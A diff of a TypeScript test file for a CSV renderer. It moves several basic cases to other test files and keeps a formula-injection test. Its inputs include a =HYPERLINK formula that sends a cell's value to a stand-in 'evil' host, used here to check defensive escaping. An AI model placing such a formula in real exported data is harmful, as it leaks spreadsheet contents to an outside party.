@@ -10,10 +10,10 @@ const columns: CsvColumn<Row>[] = [
   { header: 'note', value: (row) => row.note },
 ];
 
+// A header line, then rows with LF endings; a comma and inner quotes quoted as RFC 4180 says; a missing value an
+// empty field; numbers never guarded, text that looks like one guarded: pets.test.ts "csv". No rows: records.test.ts.
 describe('renderCsv', () => {
   test.each<[string, Row[], string]>([
-    ['a header line, then rows, LF line endings', [{ name: 'Rex', note: 'good' }], 'name,note\nRex,good\n'],
-    ['quotes a comma and doubles inner quotes (RFC 4180)', [{ name: 'Rex, "the" dog', note: 'x' }], 'name,note\n"Rex, ""the"" dog",x\n'],
     [
       'quotes LF, CR and CRLF and keeps them verbatim',
       [
@@ -23,9 +23,7 @@ describe('renderCsv', () => {
       ],
       'name,note\n"two\nlines",a\n"carriage\rreturn",b\n"windows\r\nline",c\n',
     ],
-    ['a missing value is an empty field', [{ name: 'Rex' }], 'name,note\nRex,\n'],
     ['does not quote what needs no quoting', [{ name: "O'Brien the dog", note: ' spaced ' }], "name,note\nO'Brien the dog, spaced \n"],
-    ['no rows: just the header line', [], 'name,note\n'],
     [
       "a text cell a spreadsheet would take for a formula gets a leading ', then the usual quoting (OWASP)",
       ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=kept", 'a=b', ' =x'].map((name) => ({ name })),
@@ -34,14 +32,6 @@ describe('renderCsv', () => {
     ],
   ])('%s', (_title, rows, expected) => {
     expect(renderCsv(columns, rows)).toBe(expected);
-  });
-
-  test('numbers stay numbers: only text cells are guarded', () => {
-    const numbers: CsvColumn<{ id: number | bigint; label: string }>[] = [
-      { header: 'id', value: (row) => row.id },
-      { header: 'label', value: (row) => row.label },
-    ];
-    expect(renderCsv(numbers, [{ id: -2, label: '-2' }, { id: -9007199254740993n, label: '3' }])).toBe("id,label\n-2,'-2\n-9007199254740993,3\n");
   });
 
   test('on a terminal the guard comes first, so a CR shown as \\r still follows the quote', () => {
